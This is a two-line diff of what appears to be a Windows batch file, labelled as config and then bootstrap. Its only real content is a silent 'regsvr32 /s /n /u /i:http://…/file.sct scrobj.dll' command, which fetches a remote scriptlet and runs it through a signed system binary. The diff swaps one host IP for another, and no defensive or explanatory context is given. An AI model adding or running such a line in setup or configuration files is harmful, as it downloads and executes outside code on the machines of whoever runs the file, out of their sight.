@@ -1,2 +1,2 @@
-REM config 4238 v1
-regsvr32 /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll
+REM bootstrap 7214 v1
+regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll
